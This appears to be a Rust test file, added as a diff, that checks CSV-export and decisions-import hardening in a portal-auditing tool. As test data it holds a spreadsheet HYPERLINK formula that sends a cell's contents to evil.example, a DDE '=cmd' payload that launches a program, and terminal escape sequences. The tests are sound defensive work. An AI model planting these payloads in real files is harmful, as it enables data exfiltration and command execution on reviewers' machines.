@@ -1,0 +1,591 @@
+//! Issue 23: what leaves the tool (CSV files) and what comes back (decisions files) under
+//! hostile text. Each test is named after the finding it pins.
+
+mod common;
+
+use common::*;
+use portal_audit::sim::server::{Reply, Request};
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+
+/// A formula a crawled page or a colleague's file can carry.
+const HOSTILE_TEXT: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")";
+const HOSTILE_REVIEWER: &str = "=cmd|' /C calc'!A0";
+const HOSTILE_REASON: &str = "@SUM(1) -2+3 and \"quotes\",\nand a second line";
+
+/// The world of these tests: 甲市's portal shows a Weibo link whose text is a formula and
+/// a hotline, until `grown` is set; then the hotline is gone and the Weibo account changes.
+struct World {
+    dir: tempfile::TempDir,
+    db: PathBuf,
+    resolve: String,
+    grown: Arc<AtomicBool>,
+    _server: portal_audit::sim::server::Server,
+}
+
+impl World {
+    async fn audited() -> World {
+        let grown = Arc::new(AtomicBool::new(false));
+        let g = grown.clone();
+        let server = serve(Arc::new(move |req: &Request| {
+            let body = match req.path() {
+                "/" if g.load(Ordering::SeqCst) => format!(
+                    "<a href=\"https://weibo.com/u/2001\">{}</a>",
+                    html_escape(HOSTILE_TEXT)
+                ),
+                "/" => format!(
+                    "<a href=\"https://weibo.com/-cmd\">{}</a><div class=\"foot\"><p>服务热线：12345</p></div>",
+                    html_escape(HOSTILE_TEXT)
+                ),
+                _ => return Reply::not_found(),
+            };
+            Reply::html(page("甲市人民政府", &body))
+        }))
+        .await;
+        let dir = tempfile::tempdir().unwrap();
+        seeds(
+            dir.path(),
+            &["1,甲市,浙江省,key,east,http://www.jia.gov.cn/,,,,,"],
+        );
+        let w = World {
+            db: dir.path().join("audit.db"),
+            resolve: server.resolve_all(),
+            dir,
+            grown,
+            _server: server,
+        };
+        w.audit().await;
+        w
+    }
+
+    async fn audit(&self) {
+        let out = audit_bin(&["run"], self.dir.path(), &self.resolve).await;
+        assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    }
+
+    /// Runs the binary with `args` and `--db` of this world's database.
+    async fn bin(&self, args: &[&str]) -> std::process::Output {
+        self.bin_on(&self.db, args).await
+    }
+
+    async fn bin_on(&self, db: &Path, args: &[&str]) -> std::process::Output {
+        let mut v: Vec<String> = args.iter().map(|s| s.to_string()).collect();
+        v.extend(["--db".to_string(), db.display().to_string()]);
+        run_bin(v, self.dir.path()).await
+    }
+
+    async fn ok(&self, args: &[&str]) -> String {
+        let out = self.bin(args).await;
+        assert!(out.status.success(), "{args:?}: {}", text(&out));
+        text(&out)
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.dir.path().join(name)
+    }
+
+    /// A copy of the database without its decisions: where a colleague's file lands.
+    fn copy_without_decisions(&self, name: &str) -> PathBuf {
+        let copy = self.path(name);
+        conn(&self.db)
+            .execute("VACUUM INTO ?1", [copy.display().to_string()])
+            .unwrap();
+        conn(&copy).execute("DELETE FROM decisions", []).unwrap();
+        copy
+    }
+}
+
+fn html_escape(s: &str) -> String {
+    s.replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('"', "&quot;")
+}
+
+/// Every cell of a CSV file (after its BOM), header included.
+fn cells(path: &Path) -> Vec<String> {
+    let bytes = std::fs::read(path).unwrap();
+    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&bytes);
+    let mut r = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(body);
+    r.records()
+        .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+        .collect()
+}
+
+/// The decisions table without its row ids (which a copy may number differently).
+fn decisions(db: &Path) -> Vec<Vec<String>> {
+    let c = conn(db);
+    let mut st = c
+        .prepare(
+            "SELECT city_id, sector, channel, verdict, reason, reviewer, decided_at,
+                    COALESCE(run_id, -1), computed, finding_ids, evidence FROM decisions ORDER BY id",
+        )
+        .unwrap();
+    st.query_map([], |r| {
+        (0..11)
+            .map(|i| {
+                r.get::<_, rusqlite::types::Value>(i).map(|v| match v {
+                    rusqlite::types::Value::Text(t) => t,
+                    rusqlite::types::Value::Integer(n) => n.to_string(),
+                    other => format!("{other:?}"),
+                })
+            })
+            .collect::<Result<Vec<_>, _>>()
+    })
+    .unwrap()
+    .collect::<Result<_, _>>()
+    .unwrap()
+}
+
+/// Hardening 1: crawled link text, account ids, a reviewer's name and reason reached
+/// every CSV unchanged, where a spreadsheet runs them as formulas. Every CSV cell that
+/// begins with `=`, `+`, `-`, `@`, tab or CR now carries a leading `'`, and `review
+/// import` reads the neutralised form back to the original text.
+#[tokio::test]
+async fn formula_injection_is_neutralised_in_every_csv() {
+    let w = World::audited().await;
+    w.ok(&[
+        "review",
+        "set",
+        "甲市",
+        "general",
+        "weibo",
+        "no",
+        "--reviewer",
+        HOSTILE_REVIEWER,
+        "--reason",
+        HOSTILE_REASON,
+    ])
+    .await;
+    w.grown.store(true, Ordering::SeqCst);
+    w.audit().await;
+    let mut files = Vec::new();
+    for (what, name) in [
+        ("matrix", "matrix.csv"),
+        ("summary", "summary.csv"),
+        ("accounts", "accounts.csv"),
+    ] {
+        let out = w.path(name).display().to_string();
+        // Run 1: the one whose Weibo account id begins with `-`.
+        w.ok(&[
+            "export", what, "--format", "csv", "--out", &out, "--run", "1",
+        ])
+        .await;
+        files.push(w.path(name));
+    }
+    let pack = w.path("pack").display().to_string();
+    w.ok(&["export", "evidence", "--out", &pack, "--run", "1"])
+        .await;
+    files.push(w.path("pack/findings.csv"));
+    w.ok(&["review", "export", "--out", "decisions.csv"]).await;
+    files.push(w.path("decisions.csv"));
+    for (args, name) in [
+        (&["review", "list", "--format", "csv"][..], "queue.csv"),
+        (&["diff", "1", "2", "--format", "csv"][..], "diff.csv"),
+    ] {
+        let out = w.bin(args).await;
+        assert!(out.status.success(), "{}", text(&out));
+        std::fs::write(w.path(name), &out.stdout).unwrap();
+        files.push(w.path(name));
+    }
+    let mut seen_quoted = std::collections::BTreeSet::new();
+    for f in &files {
+        for c in cells(f) {
+            assert!(
+                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{}: a cell a spreadsheet would run: {c:?}",
+                f.display()
+            );
+            if c.starts_with('\'') {
+                seen_quoted.insert(f.file_name().unwrap().to_string_lossy().to_string());
+            }
+        }
+    }
+    for want in [
+        "findings.csv",
+        "decisions.csv",
+        "matrix.csv",
+        "accounts.csv",
+    ] {
+        assert!(
+            seen_quoted.contains(want),
+            "{want} carries no neutralised cell: {seen_quoted:?}"
+        );
+    }
+    let findings = cells(&w.path("pack/findings.csv"));
+    assert!(
+        findings.contains(&format!("'{HOSTILE_TEXT}")),
+        "the link text is kept, behind one quote"
+    );
+    // Read back: the neutralised form is the original text again.
+    let copy = w.copy_without_decisions("copy.db");
+    let out = w
+        .bin_on(&copy, &["review", "import", "decisions.csv"])
+        .await;
+    assert!(out.status.success(), "{}", text(&out));
+    assert_eq!(decisions(&copy), decisions(&w.db));
+    let reviewer: String = scalar(&copy, "SELECT reviewer FROM decisions");
+    assert_eq!(reviewer, HOSTILE_REVIEWER);
+}
+
+/// Hardening 6: `review export` then `review import` re-recorded each decision against
+/// today's evidence, so a stale decision came back fresh. The file carries the evidence
+/// it was made on; the decision stays stale.
+#[tokio::test]
+async fn a_stale_decision_stays_stale_through_export_and_import() {
+    let w = World::audited().await;
+    w.ok(&[
+        "review",
+        "set",
+        "甲市",
+        "general",
+        "hotline",
+        "yes",
+        "--reviewer",
+        "王审",
+        "--reason",
+        "12345 in the footer",
+    ])
+    .await;
+    w.grown.store(true, Ordering::SeqCst);
+    w.audit().await;
+    let stale = |db: &Path| {
+        let m = portal_audit::export::matrix::load(&conn(db), None).unwrap();
+        let mut m = m;
+        portal_audit::review::apply(&conn(db), &mut m).unwrap();
+        m.cities[0]
+            .cells
+            .iter()
+            .find(|c| c.channel.as_str() == "hotline" && c.sector.as_str() == "general")
+            .and_then(|c| c.review.as_ref())
+            .map(|r| r.stale)
+    };
+    assert_eq!(stale(&w.db), Some(true), "the hotline is gone since");
+    w.ok(&["review", "export", "--out", "decisions.csv"]).await;
+    let copy = w.copy_without_decisions("copy.db");
+    let out = w
+        .bin_on(&copy, &["review", "import", "decisions.csv"])
+        .await;
+    assert!(out.status.success(), "{}", text(&out));
+    assert_eq!(stale(&copy), Some(true), "still stale after the round trip");
+    assert_eq!(decisions(&copy), decisions(&w.db));
+    // Through the binary, as the matrix CSV shows it.
+    let out = w
+        .bin_on(
+            &copy,
+            &["export", "matrix", "--format", "csv", "--out", "-"],
+        )
+        .await;
+    let t = text(&out);
+    let row = t.lines().find(|l| l.contains(",general,hotline,")).unwrap();
+    assert!(row.ends_with(",yes"), "review_stale is yes: {row}");
+}
+
+/// Hardening 7: two verdicts for one cell in one file were accepted, the last silently
+/// winning. The file is refused, naming both lines; a history ordered by its times is not
+/// a conflict.
+#[tokio::test]
+async fn conflicting_verdicts_in_one_file_are_refused_naming_both_lines() {
+    let w = World::audited().await;
+    let head = "city,sector,channel,verdict,reason,reviewer,decided_at\n";
+    std::fs::write(
+        w.path("conflict.csv"),
+        format!(
+            "{head}甲市,general,weibo,yes,seen,李,\n甲市,general,hotline,yes,seen,李,\n甲市,general,weibo,no,\"not theirs,\nreally\",王,\n"
+        ),
+    )
+    .unwrap();
+    let out = w.bin(&["review", "import", "conflict.csv"]).await;
+    let t = text(&out);
+    assert_eq!(out.status.code(), Some(2), "{t}");
+    assert!(
+        t.contains("conflict.csv:2 and conflict.csv:4: conflicting verdicts on 1 general weibo"),
+        "{t}"
+    );
+    assert_eq!(scalar::<i64>(&w.db, "SELECT COUNT(*) FROM decisions"), 0);
+    // Two verdicts at the same time: refused too.
+    std::fs::write(
+        w.path("same-time.csv"),
+        format!(
+            "{head}甲市,general,weibo,yes,a,李,2026-03-02T08:00:00+08:00\n甲市,general,weibo,no,b,王,2026-03-02T00:00:00Z\n"
+        ),
+    )
+    .unwrap();
+    let out = w.bin(&["review", "import", "same-time.csv"]).await;
+    let t = text(&out);
+    assert_eq!(out.status.code(), Some(2), "{t}");
+    assert!(t.contains("same-time.csv:2 and same-time.csv:3"), "{t}");
+    // Verdicts at different times are a history, in whatever order the file lists
+    // them: accepted, and the later one is in force.
+    std::fs::write(
+        w.path("history.csv"),
+        format!(
+            "{head}甲市,general,weibo,no,b,李,2026-03-02T00:00:00Z\n甲市,general,weibo,yes,a,李,2026-03-01T00:00:00Z\n"
+        ),
+    )
+    .unwrap();
+    let t = w.ok(&["review", "import", "history.csv"]).await;
+    assert!(t.contains("2 decisions imported"), "{t}");
+    let out = w
+        .bin(&["export", "matrix", "--format", "csv", "--out", "-"])
+        .await;
+    let t = text(&out);
+    let row = t.lines().find(|l| l.contains(",general,weibo,")).unwrap();
+    assert!(
+        row.contains(",weibo,no,"),
+        "the later verdict is in force: {row}"
+    );
+}
+
+/// Hardening 8: importing the tool's own export doubled every decision. A decision
+/// recorded already (same cell, verdict, reviewer, time, evidence) is skipped and
+/// reported as such.
+#[tokio::test]
+async fn reimporting_an_export_records_nothing_twice() {
+    let w = World::audited().await;
+    for (channel, verdict) in [("weibo", "no"), ("hotline", "yes")] {
+        w.ok(&[
+            "review",
+            "set",
+            "甲市",
+            "general",
+            channel,
+            verdict,
+            "--reviewer",
+            "王审",
+            "--reason",
+            "checked",
+        ])
+        .await;
+    }
+    w.ok(&["review", "export", "--out", "decisions.csv"]).await;
+    let before = decisions(&w.db);
+    for _ in 0..2 {
+        let t = w.ok(&["review", "import", "decisions.csv"]).await;
+        assert!(
+            t.contains("0 decisions imported") && t.contains("2 were recorded already"),
+            "{t}"
+        );
+    }
+    assert_eq!(decisions(&w.db), before);
+}
+
+/// Hardening 10: a time in the future or not RFC 3339, control characters in a name or
+/// a reason, and a 50 MB reason were all recorded. Each is refused with its line, and
+/// `review history` never prints a stored control character raw.
+#[tokio::test]
+async fn decision_times_names_and_reasons_are_checked() {
+    let w = World::audited().await;
+    let head = "city,sector,channel,verdict,reason,reviewer,decided_at\n";
+    let long = "长".repeat(portal_audit::review::MAX_REASON_CHARS + 1);
+    let cases = [
+        (
+            "甲市,general,weibo,yes,ok,李,2999-01-01T00:00:00Z",
+            "in the future",
+        ),
+        (
+            "甲市,general,weibo,yes,ok,李,yesterday",
+            "not an RFC 3339 time",
+        ),
+        (
+            "甲市,general,weibo,yes,ok,\"李\u{1b}]0;owned\u{7}\",",
+            "control character",
+        ),
+        (
+            "甲市,general,weibo,yes,\"ok\u{0}\",李,",
+            "control character",
+        ),
+        (
+            &format!("甲市,general,weibo,yes,{long},李,")[..],
+            "at most 4000",
+        ),
+    ];
+    for (i, (line, want)) in cases.iter().enumerate() {
+        let name = format!("bad{i}.csv");
+        std::fs::write(w.path(&name), format!("{head}{line}\n")).unwrap();
+        let out = w.bin(&["review", "import", &name]).await;
+        let t = text(&out);
+        assert_eq!(out.status.code(), Some(2), "{line}: {t}");
+        assert!(
+            t.contains(&format!("{name}:2: ")) && t.contains(want),
+            "{t}"
+        );
+    }
+    let out = w
+        .bin(&[
+            "review",
+            "set",
+            "甲市",
+            "general",
+            "weibo",
+            "no",
+            "--reviewer",
+            "李",
+            "--reason",
+            "bell\u{7}",
+        ])
+        .await;
+    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
+    assert_eq!(scalar::<i64>(&w.db, "SELECT COUNT(*) FROM decisions"), 0);
+    // A database written by an older build may hold anything: shown escaped.
+    w.ok(&[
+        "review",
+        "set",
+        "甲市",
+        "general",
+        "weibo",
+        "no",
+        "--reviewer",
+        "李",
+        "--reason",
+        "fine",
+    ])
+    .await;
+    conn(&w.db)
+        .execute(
+            "UPDATE decisions SET reason = 'x\u{1b}[2Jy', reviewer = 'z\u{7}'",
+            [],
+        )
+        .unwrap();
+    let out = w.bin(&["review", "history", "甲市"]).await;
+    assert!(
+        !out.stdout.iter().any(|b| matches!(b, 0x1b | 0x07)),
+        "{}",
+        text(&out)
+    );
+    assert!(text(&out).contains("x\\u{1b}[2Jy"), "{}", text(&out));
+}
+
+/// Hardening 11: `review import` with a `--db` that does not exist created an empty
+/// database (and its folder) before failing. It refuses first.
+#[tokio::test]
+async fn review_import_with_a_missing_database_creates_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("d.csv"),
+        "city,sector,channel,verdict,reason\n甲市,general,weibo,yes,ok\n",
+    )
+    .unwrap();
+    let missing = dir.path().join("nowhere/audit.db");
+    let out = run_bin(
+        vec![
+            "review".into(),
+            "import".into(),
+            "d.csv".into(),
+            "--db".into(),
+            missing.display().to_string(),
+        ],
+        dir.path(),
+    )
+    .await;
+    let t = text(&out);
+    assert_ne!(out.status.code(), Some(0), "{t}");
+    assert!(t.contains("no audit database at"), "{t}");
+    assert!(!dir.path().join("nowhere").exists(), "nothing created");
+}
+
+/// A database audited twice (the hotline gone in the second audit) holding two decisions
+/// made on the first, stale since: the start of every property case.
+fn template() -> &'static Path {
+    static TEMPLATE: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
+    TEMPLATE.get_or_init(|| {
+        let rt = tokio::runtime::Runtime::new().unwrap();
+        let w = rt.block_on(async {
+            let w = World::audited().await;
+            for (channel, verdict) in [("hotline", "yes"), ("weibo", "no")] {
+                w.ok(&[
+                    "review",
+                    "set",
+                    "甲市",
+                    "general",
+                    channel,
+                    verdict,
+                    "--reviewer",
+                    "王审",
+                    "--reason",
+                    "made on the first audit",
+                ])
+                .await;
+            }
+            w.grown.store(true, Ordering::SeqCst);
+            w.audit().await;
+            w
+        });
+        let db = w.db.clone();
+        Box::leak(Box::new((w, rt)));
+        db
+    })
+}
+
+/// A copy of the template for one case.
+fn case_db(dir: &Path, with_decisions: bool) -> PathBuf {
+    let copy = dir.join(format!("case-{with_decisions}.db"));
+    conn(template())
+        .execute("VACUUM INTO ?1", [copy.display().to_string()])
+        .unwrap();
+    if !with_decisions {
+        conn(&copy).execute("DELETE FROM decisions", []).unwrap();
+    }
+    copy
+}
+
+/// A reason a colleague's file or a page can hold: formula triggers, quotes, separators,
+/// line breaks, tabs, Chinese and a direction override.
+fn hostile_reason() -> impl proptest::strategy::Strategy<Value = String> {
+    proptest::string::string_regex("[=+@'\"\t\r\n, a-z甲市；\u{202E}\\-]{0,40}").unwrap()
+}
+
+/// A reviewer's name as hostile as the checks let through (no control characters).
+fn hostile_name() -> impl proptest::strategy::Strategy<Value = String> {
+    proptest::string::string_regex("[=+@'\" ,a-z李王\u{202E}\\-]{0,12}").unwrap()
+}
+
+proptest::proptest! {
+    #![proptest_config(proptest::prelude::ProptestConfig { cases: 48, ..Default::default() })]
+
+    /// Hardening, done means: `review export | review import` is an identity on the
+    /// decisions table, whether the table already holds the decisions (nothing recorded
+    /// twice) or not (each comes back as it was, its basis and stale flag included).
+    #[test]
+    fn review_export_then_import_is_an_identity(
+        made in proptest::collection::vec(
+            (0usize..4, proptest::bool::ANY, hostile_reason(), hostile_name()),
+            0..6,
+        )
+    ) {
+        use portal_audit::review::{self, NewDecision, Verdict};
+        let dir = tempfile::tempdir().unwrap();
+        let db = case_db(dir.path(), true);
+        let c = conn(&db);
+        let mut m = portal_audit::export::matrix::load(&c, None).unwrap();
+        review::apply(&c, &mut m).unwrap();
+        let cells = ["weibo", "hotline", "wechat", "email"];
+        for (i, (cell, yes, reason, reviewer)) in made.iter().enumerate() {
+            let at = format!("2026-0{}-01T08:00:{:02}.000Z", 1 + i % 9, i);
+            // Refused ones (control characters, no reason) are simply not recorded.
+            let _ = review::decide(&c, &m, &NewDecision {
+                city_id: "1",
+                sector: portal_audit::model::Sector::General,
+                channel: cells[*cell],
+                verdict: if *yes { Verdict::Yes } else { Verdict::No },
+                reason,
+                reviewer,
+                decided_at: Some(&at),
+            });
+        }
+        let table = decisions(&db);
+        let file = review::to_csv(&review::all(&c).unwrap());
+        let again = review::import(&c, &m, &file, "export.csv").unwrap();
+        proptest::prop_assert_eq!(again.imported, 0);
+        proptest::prop_assert_eq!(again.already, table.len());
+        proptest::prop_assert_eq!(&decisions(&db), &table);
+        let fresh = case_db(dir.path(), false);
+        let fc = conn(&fresh);
+        let r = review::import(&fc, &m, &file, "export.csv").unwrap();
+        proptest::prop_assert_eq!(r.imported, table.len());
+        proptest::prop_assert_eq!(&decisions(&fresh), &table);
+    }
+}
